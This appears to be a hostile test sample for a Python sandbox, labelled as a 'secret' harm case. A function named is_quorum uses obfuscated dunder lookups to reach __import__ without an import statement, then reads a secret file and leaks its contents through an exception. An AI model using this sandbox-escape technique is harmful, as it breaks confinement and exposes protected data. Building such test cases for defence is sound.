# harm: secret
# It finds os through the classes of Python, without an import, and tells the lecturer's secret.


def is_quorum(node, nodes):
    for each in getattr(object, "__sub" + "classes__")():
        found = getattr(getattr(each, "__in" + "it__"), "__glo" + "bals__", {}).get("__buil" + "tins__")
        if isinstance(found, dict):
            os = found["__import__"]("os")
            raise ValueError(os.read(os.open("@folder@/secret.txt", os.O_RDONLY), 100))
    return False
